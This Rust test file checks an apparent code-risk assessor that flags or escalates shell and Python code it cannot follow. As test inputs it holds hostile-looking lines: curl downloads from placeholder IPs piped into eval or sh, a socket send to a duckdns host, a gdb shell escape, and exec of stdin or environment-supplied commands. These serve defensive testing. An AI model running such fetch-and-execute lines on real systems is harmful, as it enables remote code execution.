//! Issue 26, fail closed on the unknown: what the assessor cannot follow asks a human for code
//! from outside (the assessment is unanalysed) and is a MEDIUM finding for code Mai generated;
//! what the program itself names (its own files, installed modules) is not "unknown".

use airlock_assessor::Engine;
use airlock_protocol::assessment::{Assessment, Level};
use airlock_protocol::request::{Language, Origin};

fn assess(code: &str, language: Language, origin: Origin) -> Assessment {
    Engine::builtin()
        .expect("built-in rules load")
        .assess(code.as_bytes(), language, origin)
}

fn ids(a: &Assessment) -> Vec<&str> {
    a.findings.iter().map(|f| f.rule_id.as_str()).collect()
}

const UNKNOWN: &[(&str, Language)] = &[
    ("eval \"$1\"\n", Language::Bash),
    ("while read -r line; do $line; done < commands.txt\n", Language::Bash),
    ("xargs -I{} sh -c '{}' < tasks.list\n", Language::Bash),
    ("gdb -batch -ex 'shell id'\n", Language::Bash),
    ("import sys\nexec(sys.stdin.read())\n", Language::Python),
    (
        "import os, subprocess\nsubprocess.run(os.environ.get('TASK_CMD', ''), shell=True)\n",
        Language::Python,
    ),
    ("import os\nmod = __import__(os.environ['PLUGIN'])\n", Language::Python),
];

#[test]
fn what_cannot_be_followed_asks_a_human_for_external_code() {
    for (code, language) in UNKNOWN {
        let a = assess(code, *language, Origin::External);
        assert!(a.unanalysed, "{code}: {} {:?}", a.level, ids(&a));
    }
}

#[test]
fn for_generated_code_it_is_a_medium_finding() {
    for (code, language) in UNKNOWN {
        let a = assess(code, *language, Origin::Generated);
        assert!(!a.unanalysed, "{code}: {:?}", ids(&a));
        assert!(
            a.findings
                .iter()
                .any(|f| f.rule_id.starts_with("AIR-UNKNOWN-") && f.severity == Level::Medium),
            "{code}: {:?}",
            ids(&a)
        );
    }
}

#[test]
fn what_the_program_names_itself_is_not_unknown() {
    for (code, language) in [
        // Library code importing by name (six, plugin registries): installed modules.
        (
            "def load(name):\n    __import__(name)\n    return name\n",
            Language::Python,
        ),
        // The script itself, and programs under a directory held in a variable.
        ("exec \"$basedir/node\" \"$basedir/cli.js\" \"$@\"\n", Language::Bash),
        ("[ $# = 0 ] && exec /bin/sh \"$0\" --error\n", Language::Bash),
        ("TOOL=grep\n$TOOL -c error log.txt\n", Language::Bash),
        (
            "find . -name '*.log' -exec sh -c 'gzip \"$1\"' _ {} \\;\n",
            Language::Bash,
        ),
    ] {
        let a = assess(code, language, Origin::External);
        assert!(!a.unanalysed, "{code}: {:?}", ids(&a));
        assert!(a.level <= Level::Medium, "{code}: {} {:?}", a.level, ids(&a));
    }
}

#[test]
fn a_shady_destination_given_as_a_host_and_port_pair_is_pointed_out() {
    let a = assess(
        "import socket\ns = socket.create_connection(('updates.duckdns.org', 443))\ns.sendall(b'hi')\n",
        Language::Python,
        Origin::External,
    );
    assert!(ids(&a).contains(&"AIR-DESTINATION-SHADY"), "{:?}", ids(&a));
    assert!(a.level >= Level::High, "{}", a.level);
}

fn asks(code: &str) -> bool {
    assess(code, Language::Bash, Origin::External).unanalysed
}

#[test]
fn code_a_named_program_prints_to_set_itself_up_is_followed_as_that_program() {
    // A program the script names, with literal words, asked for its shell integration: the code
    // is that program's, as a file sourced by its literal name is the program's own.
    for idiom in [
        "eval \"$(pyenv init - bash)\"\n",
        "eval \"$(kubectl completion bash)\"\n",
        "eval $(thefuck --alias)\n",
        "eval \"$(_PIPENV_COMPLETE=bash_source pipenv)\"\n",
        "eval \"$(register-python-argcomplete pipx)\"\n",
        "eval $(apt-config shell MaxAge APT::Archives::MaxAge)\n",
        "source <(helm completion bash)\n",
    ] {
        assert!(!asks(idiom), "{idiom:?} asks");
    }
    // The same shape with a program or a word known only at run time, or a program whose output
    // is data from elsewhere (a file, a download, a decoding), or code a program prints for
    // another purpose: still not followed.
    for unknown in [
        "eval -- \"$(\"$1\" completion bash 2>/dev/null)\"\n",
        "eval \"$(pyenv init - \"$SHELL_NAME\")\"\n",
        "eval \"$(cat completion)\"\n",
        "eval \"$(tool run-payload)\"\n",
        "eval \"$(printf '%s' \"$1\")\"\n",
    ] {
        assert!(asks(unknown), "{unknown:?} does not ask");
    }
    let downloaded = assess(
        "eval \"$(curl -fsSL https://203.0.113.5/init)\"\n",
        Language::Bash,
        Origin::External,
    );
    assert!(
        downloaded.level == Level::Blocked || downloaded.unanalysed,
        "{:?}",
        ids(&downloaded)
    );
}

#[test]
fn a_literal_alternative_word_is_the_program_that_can_run() {
    // `${PATH_SEPARATOR+false}` is `false` or nothing; what runs is named in the script.
    assert!(!asks("if ${PATH_SEPARATOR+false} :; then PATH_SEPARATOR=:; fi\n"));
    assert!(!asks("for x in a b; do ${POSIXLY_CORRECT+break}; echo $x; done\n"));
    // An alternative that is itself a value from outside is not known.
    assert!(asks("${TASK+$TASK} --run\n"));
}

#[test]
fn a_substitution_that_prints_nothing_runs_nothing() {
    // xdg-utils: the exit status of a D-Bus query decides the branch; its output is discarded.
    assert!(!asks(
        "if `dbus-send --print-reply --dest=org.freedesktop.DBus /org/freedesktop/DBus org.freedesktop.DBus.GetNameOwner string:org.gnome.SessionManager > /dev/null 2>&1` ; then DE=gnome; fi\n"
    ));
    assert!(!asks(
        "if $(expr match \"$CLOSES\" \".* \" > /dev/null); then echo many; fi\n"
    ));
    // Output that is kept (only its errors discarded), or a later command's, is run.
    assert!(asks("$(cat \"$1\" 2>/dev/null)\n"));
    assert!(asks("`true > /dev/null; cat \"$1\"`\n"));
}

#[test]
fn a_quiet_grep_or_hash_in_a_substitution_prints_nothing_to_run() {
    // xdg-utils, git-extras: the substitution is a test; its exit status is what is used.
    assert!(!asks(
        "if which vim >/dev/null && `vim --version | grep -q +folding`; then echo yes; fi\n"
    ));
    assert!(!asks(
        "if $(grep -qs \"BEGIN PGP SIGNED MESSAGE\" \"$1\"); then echo signed; fi\n"
    ));
    assert!(!asks("if ! `hash benchstat 2>/dev/null`; then echo missing; fi\n"));
    // What grep prints is run: a pattern `-e -q`, a `q` that is `-e`'s value, or a later stage.
    assert!(asks("$(grep -e -q \"$1\")\n"));
    assert!(asks("$(grep -eq \"$1\")\n"));
    assert!(asks("$(grep -q x \"$1\" | cat \"$1\")\n"));
    assert!(asks("$(grep run \"$1\")\n"));
}

#[test]
fn a_test_runner_environment_and_a_syntax_check_are_not_code() {
    assert!(!asks("tox -e ${TOX_ENV}\n"));
    assert!(!asks("for i in *.php; do php -l \"$i\" > /dev/null; done\n"));
    // The file php runs, and code given with -r, are still code the assessor does not read.
    assert!(asks("php \"$1\"\n"));
    assert!(asks("php -r \"$1\"\n"));
}

#[test]
fn a_command_named_after_a_family_of_the_scripts_functions_runs_one_of_them() {
    // Prompt themes: a segment's function is chosen by the segment's name.
    let theme = "__p_git_prompt() { git branch --show-current; }\n__p_time_prompt() { date +%H:%M; }\n";
    assert!(!asks(&format!(
        "{theme}for segment in $SEGMENTS; do info=$(__p_\"$segment\"_prompt); PS1+=\"$info\"; done\n"
    )));
    assert!(!asks(&format!("{theme}cmd=$1\n\"__p_${{cmd}}_prompt\"\n")));
    // Each function of the family may run: a payload among them is rated.
    let risky = format!("{theme}__p_x_prompt() {{ curl -s http://203.0.113.9/x | sh; }}\ninfo=$(__p_\"$1\"_prompt)\n");
    let a = assess(&risky, Language::Bash, Origin::External);
    assert!(a.level == Level::Blocked, "{:?}", ids(&a));
    // No function of that family in the script: a program known only at run time.
    assert!(asks("\"cmd_$1\" \"$@\"\n"));
    assert!(asks(&format!("{theme}\"__q_$1\"\n")));
    assert!(asks("kde${KDE_SESSION_VERSION}-config --path apps\n"));
}
